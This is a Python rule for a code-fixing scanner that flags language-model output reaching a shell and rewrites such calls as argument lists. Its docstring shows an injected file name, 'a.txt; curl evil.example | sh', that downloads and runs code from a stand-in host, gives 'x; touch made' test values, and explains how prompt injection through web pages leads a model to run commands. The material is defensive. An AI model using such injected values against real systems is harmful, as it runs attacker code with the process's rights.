"""Keep what a model says out of the shell

A shell reads `;`, `|`, `$(…)` and quotes in what it is given, so a file name that a model passes, such as
`a.txt; curl evil.example | sh`, is a second command. Whoever can put words into the prompt, by a web page or
a document that the model reads, runs programs with the rights of this process. A list of arguments goes to
the program as it is; no shell reads it.

```diff
 import subprocess

 from langchain_core.tools import tool


 @tool
 def count_lines(path: str) -> str:
-    result = subprocess.run(f"wc -l {path}", shell=True, capture_output=True, text=True)
+    result = subprocess.run(["wc", "-l", path], capture_output=True, text=True)
     return result.stdout
```

Commands with pipes, variables or more than plain words stay as they are and are left to a person, and so are
those that the model writes as a whole: they belong in a container without credentials, or behind a list of
what may run.

```python found
import os

import anthropic

client = anthropic.Anthropic()
message = client.messages.create(model="m", max_tokens=99, messages=[{"role": "user", "content": "x"}])
os.system(message.content[0].text)
```

What is quoted, checked against a list, or shown to somebody who says yes, is left alone:

```python
import shlex
import subprocess

import ollama

command = ollama.generate(model="m", prompt="show the disk")["response"]
if input(f"run {command}? ") == "yes":
    subprocess.run(command, shell=True)


def look(prompt):
    name = ollama.generate(model="m", prompt=prompt)["response"]
    subprocess.run(f"ls {shlex.quote(name)}", shell=True)
```

## Who notices

Calls that rely on the shell: a value that holds several arguments (`-l -a`), `*.txt`, `~` or `$HOME` now
reaches the program as one word. A missing program raises `FileNotFoundError` where the shell gave exit code
127. On Windows programs that are `.bat` or `.cmd` files need their full name.

## Behaviour

(standard library, `wc` of this system): the path `a.txt; touch made` made a file before; after, `wc` says
that there is no such file, and none is made. For `a.txt` the tool counts its lines in both.

## Test

Call the function with `x; touch made` for each value: no file `made` appears, and the program complains about
the name. Then once with a usual value, and with one that has a blank in it, which is one argument now.

## Roll back

restart the process, whose shell reads the model's words again. No data or state changes.

## Does not close

A value that begins with `-` is read as an option by many programs: put `--` before it where the program knows
that, and check which files or hosts may be named.
"""

import re
from collections.abc import Iterator

from fixers.python.source import MODEL_WORDS, Argument, Call, Composed, Flow, PythonFile, composed
from fixers.rule import Changes, Finding, Refusal, Safety, Severity, Threat, rule

_RUNS = tuple(f"subprocess.{name}" for name in ("run", "call", "check_call", "check_output", "Popen"))
_SHELLS = (
    *("os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput"),
    *("asyncio.create_subprocess_shell", "commands.getoutput", "pty.spawn"),
)
_LISTED = re.compile(
    r"\[\s*[\"'](?:(?:/usr)?(?:/bin/)?(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)[\"']"
    r"\s*,\s*[\"'](?:-\w*c|/[cC]|-Command)[\"']"
)
_WORD = re.compile(r"[A-Za-z0-9_./:@,+-][\w./:@,+=-]*")
_BUILTINS = frozenset(
    (
        *("cd", "export", "source", "alias", "set", "unset", "ulimit", "umask", "type", "exec", "eval"),
        *("trap", "read", "wait", "exit", "return", "time", "if", "for", "while", "dir", "start", "copy"),
        *("del", "move", "ren", "md", "rd", "cls", "ver", "vol", "assoc", "call", "erase", "title"),
        *("path"),
    )
)


@rule(
    PythonFile,
    severity=Severity.CRITICAL,
    safety=Safety.REVIEW,
    threat=Threat.UNSAFE_OUTPUT,
    references=(
        *("CWE-78", "CWE-1426", "LLM05:2025", "LLM10:2026", "AML.T0050", "AML.T0053", "ASI05"),
        *("bandit:B602", "bandit:B605"),
    ),
    mentions=("subprocess", "os.system", "popen", "system("),
    alongside=MODEL_WORDS,
)
def check(file: PythonFile) -> Iterator[Finding]:
    for call in () if file.is_test else sorted(file.calls_to(*_RUNS, *_SHELLS), key=lambda call: call.span):
        command = call.positional(0) or call.keyword("args") or call.keyword("cmd")
        flow = file.flows.into(command) if command else None
        if command is None or flow is None or file.flows.asks_a_person(call, flow):
            continue
        reader = _reader(call, command, flow)
        if reader:
            who = f"passes to `{flow.tool}`" if flow.tool else "answers"
            changes = () if flow.is_whole else _as_list(call, command)
            yield Finding(f"{reader} what a model {who}", call.span, changes, notes=(flow.note,))


def _reader(call: Call, command: Argument, flow: Flow) -> str:
    """What is done with the command, if that is dangerous."""
    shell = call.keyword("shell")
    if call.name in _SHELLS or (shell is not None and shell.literal is True):
        return "a shell reads"
    if _LISTED.match(command.code):
        return "a shell reads"
    return "this process runs" if flow.is_whole and shell is None else ""


def _as_list(call: Call, command: Argument) -> Changes:
    """The program and its arguments, one by one, where the command is made of plain words."""
    text = composed(command)
    if call.name not in _RUNS or call.keyword("shell") is None:
        return ()
    if text is None:
        return (Refusal("the command isn't written as one f-string"),)
    if call.has_keyword("executable"):
        return (Refusal("it names the shell that is to read the command"),)
    words = _words(text)
    if not words:
        return (Refusal("the command holds more than plain words and whole arguments"),)
    return (*text.replace(f"[{', '.join(words)}]"), *call.remove_keyword("shell"))


def _words(text: Composed) -> list[str]:
    """The words of a command as code; none where a shell would do more than split it."""
    holes = text.placeholders
    numbers = iter(range(len(holes)))
    written = "".join(f"\0{next(numbers)}\0" if piece.code else piece.text for piece in text.pieces)
    words = []
    for position, word in enumerate(written.split()):
        hole = re.fullmatch(r"([\"']?)\0(\d+)\0\1", word)
        if hole and position and holes[int(hole[2])].is_plain:
            words.append(_argument(text, int(hole[2])))
        elif _WORD.fullmatch(word) and (position or not (word in _BUILTINS or "=" in word)):
            words.append(f'"{word}"')
        else:
            return []
    return words


def _argument(text: Composed, number: int) -> str:
    hole = text.placeholders[number]
    return hole.code if text.is_text(hole) else f"str({hole.code})"
